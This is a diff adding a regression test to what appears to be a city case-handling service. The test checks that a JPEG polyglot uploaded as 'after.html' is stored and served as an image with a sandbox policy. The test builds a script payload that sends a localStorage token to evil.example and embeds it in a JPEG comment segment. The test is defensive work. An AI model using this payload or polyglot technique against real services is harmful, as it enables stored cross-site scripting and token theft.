@@ -329,6 +329,34 @@ def test_disposal_photo_through_the_api(city, bus_event, zidane_jpg):
     assert store.get(case.id).verification_ref == "verification/verification_1.jpg"
 
 
+def test_a_disposal_photo_named_as_a_page_is_kept_and_served_as_the_photo_it_is(city, bus_event, zidane_jpg):
+    """The evidence kept a disposal photo under the suffix of the name it was sent with and served it with the type that
+    suffix says: a real JPEG whose comment holds a script, sent as `after.html` by the platform (or fetched from a URL
+    ending so), came back from its evidence link as text/html of the service's own origin, where the pages keep the
+    token. It is stored by its format (.jpg), and every evidence file is served in a sandbox without scripts."""
+    app, client, tokens = city
+    event, _ = bus_event
+    store = app.state.ctx.store
+    case = _intake(app).record_event(replace(event, violation_id="photo:bus:illegal_parking"),
+                                     BundleContext(source_kind="photo_batch", source_id="b1", geo=GeoPoint(30.2741, 120.1551)))
+    store.review(case.id, approve=True, reviewer="li", target="dcm")
+    [entry] = store.claim_due()
+    store.mark_delivered(entry.id, "DCM-7")
+    script = b"<script>fetch('//evil.example/?' + localStorage.sw_token)</script>"
+    jpeg = zidane_jpg.read_bytes()
+    polyglot = jpeg[:2] + b"\xff\xfe" + (len(script) + 2).to_bytes(2, "big") + script + jpeg[2:]  # a COM segment after SOI
+    sent = client.post(f"/api/v1/cases/{case.id}/disposal-photo", headers=auth(tokens["integration"]),
+                       files={"file": ("after.html", polyglot, "text/html")})
+    assert sent.status_code == 200, sent.text
+    stored = json.loads(app.state.ctx.evidence.read_bytes(store.get(case.id).evidence_ref, "manifest.json"))["artifacts"]
+    [original] = [a for a in stored if a["path"].startswith("verification/") and "_original" in a["path"]]
+    assert original["path"].endswith("_original.jpg") and original["content_type"] == "image/jpeg", original
+    served = client.get(app.state.ctx.signer.url(case.id, original["path"]))
+    assert served.status_code == 200 and served.content == polyglot  # the bytes as received
+    assert served.headers["content-type"] == "image/jpeg"
+    assert served.headers["content-security-policy"] == "sandbox" and served.headers["x-content-type-options"] == "nosniff"
+
+
 @pytest.mark.slow  # schemathesis loads the app's whole document (~3 s) and the detector judges the photo
 def test_a_client_built_from_the_document_sends_the_disposal_photo_and_the_webhook(city, bus_event, zidane_jpg):
     """The two routes reading their body themselves declared none in /openapi.json (test_api), so a generated client
